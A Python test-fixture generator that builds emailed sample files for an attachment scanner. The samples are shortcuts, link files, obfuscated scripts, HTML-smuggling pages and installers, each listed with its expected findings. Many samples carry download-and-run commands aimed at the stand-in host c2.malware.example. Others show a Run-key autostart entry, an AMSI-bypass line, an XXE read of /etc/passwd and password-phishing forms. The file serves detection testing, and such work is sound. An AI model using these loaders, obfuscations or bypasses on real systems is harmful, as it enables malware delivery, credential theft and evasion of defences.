"""Other files that are sent: shortcuts, link files, scripts, pages that build files, programs (catalogue B26, B50).

Each entry of `OTHERS` is a file and what is to be found in it: kinds of findings, and values of observables. `ORDINARY`
holds files of the same kinds in which nothing of that is found. Run as a program it writes the case files of
tests/corpus/others.
"""

# ruff: noqa: E501 - a case a line reads best
from __future__ import annotations

import base64
import io
import re
import zipfile
import zlib
from email.message import EmailMessage
from pathlib import Path

from archive_writers import gzipped
from installer_maker import installer
from shortcut_maker import environment_block, network_info, program, shortcut, tracker_block

URL = "http://c2.malware.example/gate"
SHARE = "\\\\c2.malware.example\\share"
PROGRAM = program()
Case = tuple[str, bytes, tuple[str, ...]]
CMD = "C:\\Windows\\System32\\cmd.exe"


def b64(data: bytes | str, codec: str = "utf-8") -> str:
    """Base64 of bytes or of a text."""
    return base64.b64encode(data if isinstance(data, bytes) else data.encode(codec)).decode()


def xored(data: bytes, key: bytes) -> bytes:
    """The bytes under a key that repeats."""
    return bytes(byte ^ key[at % len(key)] for at, byte in enumerate(data))


def deflated(data: bytes) -> bytes:
    """A bare deflate stream."""
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return engine.compress(data) + engine.flush()


def packed(**members: str) -> bytes:
    """A ZIP of texts; two underscores in a name stand for a slash and one for a dot."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, text in members.items():
            archive.writestr(zipfile.ZipInfo(name.replace("__", "/").replace("_", ".")), text)
    return file.getvalue()


def page(script: str, body: str = "") -> bytes:
    """A page with a script."""
    return f"<html><body>{body}<script>{script}</script></body></html>".encode()


def numbers(data: bytes | str) -> str:
    """The bytes or characters as numbers."""
    return ",".join(str(byte) for byte in (data if isinstance(data, bytes) else data.encode()))


_B = b64(PROGRAM)
_HALF = len(_B) // 2
_SAVE = "var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([x]));l.download='報告書.exe';l.click();"
_FILE = ("html-script-file", "executable")
_DOWNLOAD = f"IEX (New-Object Net.WebClient).DownloadString('{URL}')"

SHORTCUTS: dict[str, Case] = {
    "B50 shortcut": ("報告書.lnk", shortcut(CMD, arguments=f"/c start {URL}"), ("shortcut", "executable", "script-runs-program", URL)),
    "B50 shortcut to a server": ("a.lnk", shortcut(info=network_info(SHARE, "a.exe")), ("shortcut", "link-remote", "c2.malware.example")),
    "B50 shortcut by its environment": ("a.lnk", shortcut(blocks=environment_block("%comspec%"), arguments="/c calc"), ("shortcut", "%comspec% /c calc")),
    "B50 shortcut padded": ("a.lnk", shortcut(CMD, arguments=" " * 300 + f"/c curl {URL}"), ("shortcut-padded", "script-download", URL)),
    "B50 shortcut with long arguments": ("a.lnk", shortcut(CMD, arguments="/c " + "rem x & " * 60 + URL), ("shortcut-padded", URL)),
    "B50 shortcut with a document's icon": ("報告書.pdf.lnk", shortcut(CMD, arguments="/c calc", icon="%ProgramFiles%\\Adobe\\Acrobat\\AcroRd32.exe"), ("document-icon", "name-double-extension")),
    "B50 shortcut with an icon block": ("a.lnk", shortcut(CMD, arguments="/c calc", icon="x.ico", blocks=environment_block("C:\\a\\WINWORD.EXE", 0xA0000007)), ("document-icon",)),
    "B50 shortcut minimised": ("a.lnk", shortcut(CMD, arguments="/c calc", window=7), ("script-hidden-window",)),
    "B50 shortcut and its machine": ("a.lnk", shortcut(CMD, blocks=tracker_block("desktop-0a1b2c3")), ("desktop-0a1b2c3",)),
    "B50 shortcut with a program behind": ("a.lnk", shortcut(CMD, arguments="/c calc", behind=PROGRAM), ("appended-data", "executable-details")),
    "B50 shortcut with two files behind": ("a.lnk", shortcut(CMD, behind=b"{\\rtf1 a decoy}" + PROGRAM), ("appended-data", "executable-details")),
    "B50 shortcut with a ciphered program behind": ("a.lnk", shortcut(CMD, behind=xored(PROGRAM, b"\x5a")), ("appended-data", "executable-details")),
    "B50 shortcut with a page behind": ("a.lnk", shortcut("C:\\Windows\\System32\\mshta.exe", arguments="a.lnk", behind=f"<html><script language=vbscript>CreateObject(\"WScript.Shell\").Run \"calc {URL}\"</script></html>".encode()), ("appended-data", "script-runs-program", URL)),
    "B50 shortcut with encoded arguments": ("a.lnk", shortcut("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", arguments=f"-w hidden -enc {b64(_DOWNLOAD, 'utf-16-le')}"), ("script-encoded", "script-hidden-window", "script-download", URL)),
    "B50 shortcut whose directory is too long": ("a.lnk", shortcut(CMD, directory="C:\\" + " " * 257, arguments=f"/c curl {URL}").replace(b"\x04\x01C\0:", b"\x9d\x06C\0:"), ("script-download", URL)),
    "B50 shortcut in a ZIP": ("a.zip", packed(a_lnk=""), ("archived-executable",)),
    "B50 shortcut called a document": ("a.pdf", shortcut(CMD), ("type-mismatch", "executable")),
}  # fmt: skip

LINK_FILES: dict[str, Case] = {
    "B50 url": ("a.url", f"[InternetShortcut]\r\nURL={URL}\r\n".encode(), ("link-file", URL)),
    "B50 url to a server": ("a.url", f"[InternetShortcut]\r\nURL=file:{SHARE}\\a.exe\r\n".encode(), ("link-remote", "link-program")),
    "B50 url with a server's icon": ("a.url", f"[InternetShortcut]\r\nURL=https://www.example.jp/\r\nIconFile={SHARE}\\a.ico\r\n".encode(), ("link-remote", "c2.malware.example")),
    "B50 url with a directory on a server": ("a.url", f"[InternetShortcut]\r\nURL=C:\\Windows\\iediag.exe\r\nWorkingDirectory={SHARE}\r\n".encode(), ("link-remote",)),
    "B50 url in UTF-16": ("a.url", f"[InternetShortcut]\r\nURL=file:{SHARE}\\a.zip\r\n".encode("utf-16"), ("link-remote",)),
    "B50 url without its name": ("a.txt", f"[InternetShortcut]\r\nURL=file:{SHARE}\\a.zip\r\n".encode(), ("link-remote",)),
    "B50 url of a script": ("a.url", b"[InternetShortcut]\r\nURL=javascript:eval('x')\r\n", ("link-program",)),
    "B50 desktop": ("報告書.desktop", f"[Desktop Entry]\nType=Application\nExec=sh -c \"curl {URL} | sh\"\nIcon=application-pdf\n".encode(), ("link-program", "document-icon", "script-download", URL)),
    "B50 library": ("a.library-ms", f"<?xml version='1.0'?><libraryDescription xmlns='http://schemas.microsoft.com/windows/2009/library'><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>{SHARE}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>".encode(), ("link-remote", "executable")),
    "B50 search": ("a.searchConnector-ms", f"<?xml version='1.0'?><searchConnectorDescription xmlns='http://schemas.microsoft.com/windows/2009/searchConnector'><simpleLocation><url>https:{SHARE[:20].replace(chr(92), '/')}/</url></simpleLocation></searchConnectorDescription>".encode(), ("link-file", "executable")),
    "B50 web location": ("a.webloc", f"<?xml version='1.0'?><plist version='1.0'><dict><key>URL</key><string>{URL}</string></dict></plist>".encode(), ("link-file", URL)),
    "B50 scf": ("a.scf", f"[Shell]\r\nCommand=2\r\nIconFile={SHARE}\\a.ico\r\n".encode(), ("link-remote", "executable")),
    "B50 settings content": ("a.settingcontent-ms", b"<?xml version='1.0'?><PCSettings><SearchableContent xmlns='http://schemas.microsoft.com/Search/2013/SettingContent'><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>", ("link-program", "script-runs-program")),
    "B50 console": ("a.msc", f"<?xml version='1.0'?><MMC_ConsoleFile ConsoleVersion='3.0'><StringTables><StringTable><Strings><String ID='1'>res://apds.dll/redirect.html?target=javascript:eval(x)</String><String ID='2'>var s=new ActiveXObject(\"WScript.Shell\");s.Run(\"mshta {URL}\")</String></Strings></StringTable></StringTables></MMC_ConsoleFile>".encode(), ("link-program", "script-runs-program", URL)),
    "B50 application": ("a.application", f"<?xml version='1.0'?><asmv1:assembly xmlns:asmv1='urn:schemas-microsoft-com:asm.v1' xmlns='urn:schemas-microsoft-com:asm.v2'><deployment><deploymentProvider codebase='{URL}'/></deployment></asmv1:assembly>".encode(), ("link-file", URL)),
    "B50 appinstaller": ("a.appinstaller", f"<?xml version='1.0'?><AppInstaller xmlns='http://schemas.microsoft.com/appx/appinstaller/2018' Uri='{URL}'><MainPackage Name='a' Uri='{URL}x.msix'/></AppInstaller>".encode(), ("link-file", "executable", URL)),
    "B50 appref": ("a.appref-ms", f"{URL}#a.app, Culture=neutral".encode("utf-16"), ("link-file", "executable")),
    "B50 remote desktop": ("a.rdp", b"full address:s:c2.malware.example\r\ndrivestoredirect:s:*\r\n", ("link-remote", "c2.malware.example")),
    "B50 registry": ("a.reg", f"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"a\"=\"mshta {URL}\"\r\n".encode(), ("script-autostart", "script-runs-program", "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")),
    "B50 inf": ("a.inf", f"[version]\r\nsignature=$chicago$\r\n[DefaultInstall_SingleUser]\r\nUnRegisterOCXs=a\r\n[a]\r\n%11%\\scrobj.dll,NI,{URL}\r\n".encode(), ("script-runs-program", URL)),
    "B50 theme": ("a.theme", f"[Theme]\r\nDisplayName=a\r\n[VisualStyles]\r\nPath={SHARE}\\a.msstyles\r\n".encode(), ("link-remote",)),
    "B50 jnlp": ("a.jnlp", f"<?xml version='1.0'?><jnlp codebase='{URL}'><resources><jar href='a.jar'/></resources><application-desc main-class='a.B'/></jnlp>".encode(), ("link-program", "executable", URL)),
    "B50 profile": ("a.mobileconfig", b"<?xml version='1.0'?><plist version='1.0'><dict><key>PayloadContent</key><array><dict><key>PayloadType</key><string>com.apple.vpn.managed</string><key>RemoteAddress</key><string>c2.malware.example</string></dict></array><key>PayloadType</key><string>Configuration</string></dict></plist>", ("configuration-profile", "c2.malware.example")),
}  # fmt: skip

# A line that starts a program, as the Script Encoder writes it.
_ENCODED = '#@~^VQAAAA==U\x7fh~zmDk\\\x7f(}8L\x7fmO`r\x7fj^MkwD ?4+V^EbR"E\t`Emh[,z^P1;D^P4ODw)&&1  :msSl.\x7fR\x7f6lsw^nzTlO+r#I+RwAAA==^#~@'
_BATCH_ALPHABET = "abcdefghijklmnopqrstuvwxyz:/.2"
SCRIPTS: dict[str, Case] = {
    "B50 vbs": ("a.vbs", b'x = Chr(104) & "ttp" & Chr(58) & "//c2." & _\r\n "malware" & ".example/gate"\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "mshta " & x, 0\r\n', ("executable", "script-runs-program", "script-hidden-window", URL)),
    "B50 vbs reversed": ("a.vbs", f'Dim u\nu = StrReverse("{URL[::-1]}")\n'.encode(), (URL,)),
    "B50 vbs replaced": ("a.vbs", f'Dim u\nu = Replace("{"@!@".join(URL)}", "@!@", "")\n'.encode(), (URL,)),
    "B50 vbs in UTF-16": ("a.vbs", 'u = "ht" & "tp://c2.malware.example/gate"\nEnd Sub\n'.encode("utf-16"), (URL,)),
    "B50 js": ("a.js", b"var a=['gate','http://','c2.malware.example','/'];new ActiveXObject('WScript.Shell').Run('cmd /c '+a[1]+a[2]+a[3]+a[0]);", ("script-runs-program", URL)),
    "B50 js escaped": ("a.js", ("go('" + "".join(f"\\x{ord(one):02x}" for one in URL) + "')").encode(), (URL,)),
    "B50 js of codes": ("a.js", f"eval(String.fromCharCode({numbers(URL)}))".encode(), (URL,)),
    "B50 js percent": ("a.js", ("eval(unescape('" + "".join(f"%{ord(one):02x}" for one in URL) + "'))").encode(), (URL,)),
    "B50 js ciphered": ("a.js", f"var k=[{numbers(xored(URL.encode(), b'%'))}],o='';for(i in k)o+=String.fromCharCode(k[i]^37);".encode(), (URL,)),
    "B50 js shifted": ("a.js", f"var k='{''.join(chr(ord(one) + 3) for one in URL)}';for(i in k)o+=String.fromCharCode(k.charCodeAt(i)-3);".encode(), (URL,)),
    "B50 jse": ("a.jse", _ENCODED.encode(), ("executable", "script-runs-program")),
    "B50 ps1 encoded": ("a.ps1", f"powershell -nop -w hidden -enc {b64(_DOWNLOAD, 'utf-16-le')}".encode(), ("script-encoded", "script-download", URL)),
    "B50 ps1 formatted": ("a.ps1", b"$u=\"{2}{0}{1}\" -f 'malware','.example/gate','http://c2.'; iwr $u", ("script-download", URL)),
    "B50 ps1 of characters": ("a.ps1", f"$u=[char[]]({numbers(URL)}) -join ''; iex $u".encode(), ("script-runs-program", URL)),
    "B50 ps1 ciphered": ("a.ps1", f"$d={numbers(xored(URL.encode(), b'#'))}|%{{$_ -bxor 0x23}}".encode(), (URL,)),
    "B50 ps1 deflated": ("a.ps1", f"IEX(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{b64(deflated(_DOWNLOAD.encode() * 3))}'),0)))".encode(), ("script-encoded", "script-download", URL)),
    "B50 ps1 with a program": ("a.ps1", f"$b=[Convert]::FromBase64String('{b64(gzipped(PROGRAM))}')".encode(), ("script-encoded", "executable-details")),
    "B50 ps1 marks": ("a.ps1", b"i`e`x('ht'+'tp://c2.mal'+'ware.example/gate')", ("script-runs-program", URL)),
    "B50 ps1 tampering": ("a.ps1", b"[Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUtils').GetField('am'+'siInitFailed','NonPublic,Static')", ("script-tampering",)),
    "B50 bat": ("a.bat", b"@echo off\r\nset a=http://c2.mal\r\nset b=ware.example\r\ncu^rl %a%%b%/gate\r\n", ("script-download", URL)),
    "B50 bat picked": ("a.cmd", ("set x=" + _BATCH_ALPHABET + "\r\nstart " + "".join(f"%x:~{_BATCH_ALPHABET.index(one)},1%" for one in URL) + "\r\n").encode(), (URL,)),
    "B50 bat autostart": ("a.bat", b"@echo off\r\nschtasks /create /tn a /tr c:\\a.exe /sc onlogon\r\n", ("script-autostart",)),
    "B50 sh": ("a.sh", b"#!/bin/sh\na=http://c2.\nb=malware.example/gate\ncurl $a$b | sh\n", ("script-download", URL)),
    "B50 sh encoded": ("a.sh", f"#!/bin/sh\necho {b64(f'curl {URL} | sh')} | base64 -d | sh\n".encode(), ("script-encoded", "script-download", URL)),
    "B50 python": ("a.py", f"import base64, os\nos.system(base64.b64decode('{b64(f'curl {URL}')}').decode())\n".encode(), ("script-runs-program", "script-encoded", URL)),
    "B50 hta": ("a.hta", b"<html><head><hta:application showintaskbar=\"no\"></head><script language=\"VBScript\">\nSet s = CreateObject(\"WScr\" & \"ipt.Shell\")\ns.Run \"mshta \" & \"http://c2.\" & \"malware.example/gate\", 0\n</script></html>", ("executable", "script-runs-program", "script-hidden-window", URL)),
    "B50 wsf": ("a.wsf", b"<job id=\"a\"><script language=\"JScript\"><![CDATA[ var u='http://c2.'+'malware.example/gate'; new ActiveXObject('MSXML2.XMLHTTP').open('GET',u); ]]></script></job>", ("executable", "script-download", URL)),
    "B50 sct": ("a.sct", f"<?XML version=\"1.0\"?><scriptlet><registration progid=\"a\"><script language=\"JScript\"><![CDATA[new ActiveXObject('WScript.Shell').Run('cmd /c curl {URL}');]]></script></registration></scriptlet>".encode(), ("executable", "script-runs-program", URL)),
    "B50 xsl": ("a.xsl", f"<?xml version='1.0'?><stylesheet xmlns:ms='urn:schemas-microsoft-com:xslt'><ms:script implements-prefix='u' language='JScript'><![CDATA[ new ActiveXObject('WScript.Shell').Run('curl {URL}'); ]]></ms:script></stylesheet>".encode(), ("script-runs-program", URL)),
    "B50 script called a text": ("a.txt", f"Set s = CreateObject(\"WScript.Shell\")\ns.Run \"mshta {URL}\"\n".encode(), ("type-mismatch", "script-runs-program")),
    "B50 script called a picture": ("a.jpg", f"@echo off\r\ncurl {URL}\r\n".encode(), ("type-mismatch", "script-download")),
}  # fmt: skip

# A page with a form, as CryptoJS.AES.encrypt writes it.
_SALTED_PAGE = "U2FsdGVkX19zYWx0c2FsdFZQOBJleBGaY//xtrVkth9tNGUXXQnvjfHwxz5H5jHtlUOOnVWOFhOt8f4K9b4ErKf3Tc4rtfgUvjn0OcFVX8v3ZjO7icmQLmnkWTJzD26IeS3nAQIU0nIvOAdWCRoxjkJexjz1UGQoViSYG7IYxZaPBMbLHGHVLx6MqKpD/Uorrrsawvq2YsXjTmPGAa0QOQ=="
SMUGGLING: dict[str, Case] = {
    "B26 file in Base64": ("a.html", page(f"var x=atob('{_B}');{_SAVE}"), _FILE),
    "B26 file in pieces": ("a.html", page(f"var a='{_B[:_HALF]}';var b='{_B[_HALF:]}';var x=atob(a+b);{_SAVE}"), _FILE),
    "B26 file in a growing text": ("a.html", page("var d='';" + "".join(f"d+='{_B[at : at + 100]}';" for at in range(0, len(_B), 100)) + f"var x=atob(d);{_SAVE}"), _FILE),
    "B26 file in a list": ("a.html", page("var d=[" + ",".join(f"'{_B[at : at + 76]}'" for at in range(0, len(_B), 76)) + f"];var x=atob(d.join(''));{_SAVE}"), _FILE),
    "B26 file in numbers": ("a.html", page(f"var x=new Uint8Array([{numbers(PROGRAM)}]);{_SAVE}"), _FILE),
    "B26 file in hexadecimal": ("a.html", page(f"var d='{PROGRAM.hex()}';for(i=0;i<d.length;i+=2)x.push(parseInt(d.substr(i,2),16));{_SAVE}"), _FILE),
    "B26 file in escapes": ("a.html", page("var x='" + "".join(f"\\x{byte:02x}" for byte in PROGRAM) + f"';{_SAVE}"), _FILE),
    "B26 file backwards": ("a.html", page(f"var x=atob('{_B[::-1]}'.split('').reverse().join(''));{_SAVE}"), _FILE),
    "B26 file with signs between": ("a.html", page(f"var x=atob('{'!'.join(re.findall('.{1,40}', _B))}'.replace(/!/g,''));{_SAVE}"), _FILE),
    "B26 file under a byte": ("a.html", page(f"var d=atob('{b64(xored(PROGRAM, b'Z'))}');for(i=0;i<d.length;i++)x[i]=d.charCodeAt(i)^90;{_SAVE}"), _FILE),
    "B26 file under a word": ("a.html", page(f"var d=atob('{b64(xored(PROGRAM, b'S3cret'))}'),k='S3cret';for(i=0;i<d.length;i++)x[i]=d.charCodeAt(i)^k.charCodeAt(i%k.length);{_SAVE}"), _FILE),
    "B26 file in attributes": ("a.html", page(f"var x=atob(document.getElementById('a').dataset.x+document.getElementById('b').value);{_SAVE}", f"<div id=a data-x='{_B[:_HALF]}'></div><input type=hidden id=b value='{_B[_HALF:]}'>"), _FILE),
    "B26 file in a comment": ("a.html", page(f"var x=atob(document.body.firstChild.data);{_SAVE}", f"<!--{_B}-->"), _FILE),
    "B26 file in a style sheet": ("a.html", page(f"var x=atob(getComputedStyle(document.body).getPropertyValue('--d'));{_SAVE}", f"<style>:root{{--d:'{_B}'}}</style>"), _FILE),
    "B26 file in a template": ("a.html", page(f"var x=atob(t.innerHTML);{_SAVE}", f"<template id=t>{_B}</template>"), _FILE),
    "B26 file in a frame's page": ("a.html", f"<iframe srcdoc=\"<script>var x=atob('{_B}');{_SAVE}</script>\"></iframe>".encode(), _FILE),
    "B26 file in a data link": ("a.html", f"<a download='a.iso' href='data:application/octet-stream;base64,{_B}'>k</a>".encode(), ("executable",)),
    "B26 file packed": ("a.html", page(f"var x=pako.inflate(atob('{b64(zlib.compress(PROGRAM))}'));{_SAVE}"), _FILE),
    "B26 file in SVG": ("a.svg", f"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[var x=atob('{_B}');{_SAVE}]]></script></svg>".encode(), _FILE),
    "B26 file of Internet Explorer": ("a.html", page(f"navigator.msSaveBlob(new Blob([atob('{_B}')]),'a.exe')"), _FILE),
    "B26 script as a file": ("a.html", page("var x=atob('" + b64(f"@echo off\r\nrem a batch file, saved under a name of its own\r\ncurl {URL} | cmd\r\n") + "');" + _SAVE.replace("報告書.exe", "a.bat")), ("html-script-file", "executable", "script-download", URL)),
    "B26 file that cannot be read": ("a.html", page(f"var x=mystery(atob('{b64(zlib.compress(bytes(range(256)) * 9)[2:] * 12)}'));{_SAVE}"), ("html-script-file", "incomplete")),
    "B26 page under AES": ("a.html", page(f"document.write(CryptoJS.AES.decrypt('{_SALTED_PAGE}','P4ssw0rd').toString(CryptoJS.enc.Utf8))"), ("html-form", "html-password-form", URL)),
    "B26 page that a script writes": ("a.html", page("document.write(unescape('" + "".join(f"%{byte:02x}" for byte in page("", f"<form action='{URL}'><input type=password></form>")) + "'))"), ("html-form", "html-password-form", URL)),
    "B49 SVG with an entity": ("a.svg", f"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x '{URL}'><!ENTITY y SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><a href='&x;'><text>&y;</text></a></svg>".encode(), (URL,)),
    "B26 SVG that leads elsewhere": ("a.svg", f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><a><set attributeName='href' to='{URL}'/></a><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><form action='{URL}x'><input type='password'></form></body></foreignObject></svg>".encode(), ("html-form", URL)),
}  # fmt: skip

PROGRAMS: dict[str, Case] = {
    "B50 program": ("a.exe", PROGRAM, ("executable", "executable-details")),
    "B50 program with data behind": ("a.exe", program(b"MEI\x0c\x0b\x0a\x0b\x0e" + bytes(100)), ("executable-details",)),
    "B50 program that is packed": ("a.scr", program(section=b"UPX0"), ("executable-details",)),
    "B50 program called a picture": ("a.jpg", PROGRAM, ("type-mismatch", "executable")),
    "B50 Java archive": ("a.jar", packed(**{"META-INF__MANIFEST_MF": "Manifest-Version: 1.0\r\nMain-Class: a.B\r\n"}), ("executable", "package-manifest", "a.B")),
    "B50 app package": ("a.msix", packed(AppxManifest_xml="<Package><Identity Name=\"a\" Publisher=\"CN=b\"/><Applications><Application Id=\"A\" Executable=\"a.exe\" EntryPoint=\"x\"/></Applications></Package>"), ("executable", "package-manifest")),
    "B50 extension": ("a.xpi", packed(manifest_json="{\"manifest_version\": 3, \"name\": \"a\", \"permissions\": [\"http://c2.malware.example/gate\"]}"), ("package-manifest", URL)),
    "B50 installer": ("a.msi", installer([("a", 6 | 0x40, "", f'CreateObject("WScript.Shell").Run "mshta {URL}"'), ("b", 34, "TARGETDIR", f"cmd /c curl {URL}x")], Binary__a=PROGRAM), ("installer-action", "script-runs-program", "executable-details", URL)),
    "B50 class": ("a.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40), ("executable", "executable-details")),
    "B50 page called a document": ("a.pdf", page("", "x"), ("type-mismatch",)),
    "B50 archive called a picture": ("a.png", packed(a_txt="x"), ("type-mismatch",)),
    "B50 text called a document": ("a.docx", b"a text that is no document at all\n", ("type-mismatch",)),
}  # fmt: skip

ORDINARY: dict[str, tuple[str, bytes]] = {
    "clean text": ("a.txt", "議事録を送ります。\nhttps://www.example.jp/\n".encode()),
    "clean table": ("a.csv", "品名,数量\nりんご,3\n".encode("cp932")),
    "clean page with a script": ("a.html", page("document.getElementById('menu').onclick=function(){this.className='open';};", "<p>お知らせ</p>")),
    "clean drawing": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><path d='M0 0h9v9z'/></svg>"),
    "clean card": ("a.vcf", "BEGIN:VCARD\nVERSION:3.0\nFN:総務課\nTEL:03-0000-0000\nEND:VCARD\n".encode()),
    "clean picture with another ending": ("a.jpg", base64.b64decode("R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=")),
    "clean table of a page": ("a.xls", b"<html><body><table><tr><td>3</td></tr></table></body></html>"),
    "clean patch": ("a.patch", b"--- a/x.sh\n+++ b/x.sh\n@@ -1 +1 @@\n-echo a\n+echo b\n"),
}  # fmt: skip
OTHERS = {**SHORTCUTS, **LINK_FILES, **SCRIPTS, **SMUGGLING, **PROGRAMS}


def mail(name: str, content: bytes) -> bytes:
    """A mail with one attachment, of no stated type."""
    made = EmailMessage()
    made["From"], made["To"], made["Subject"] = "a@example.jp", "b@example.jp", "s"
    made.set_content("x\n")
    made.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    made.set_boundary("=-sekisho-=")
    return made.as_bytes()


def case_files() -> dict[str, bytes]:
    """Each file in a mail, by the name of its case."""
    files = {name: (case[0], case[1]) for name, case in OTHERS.items()} | ORDINARY
    return {re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-"): mail(*file) for name, file in files.items()}


def write(directory: Path) -> None:
    """Write the case files anew; their expected readings are written by whoever has looked at them."""
    for name, content in case_files().items():
        (directory / f"{name}.eml").write_bytes(content)


if __name__ == "__main__":
    write(Path(__file__).parents[1] / "corpus" / "others")
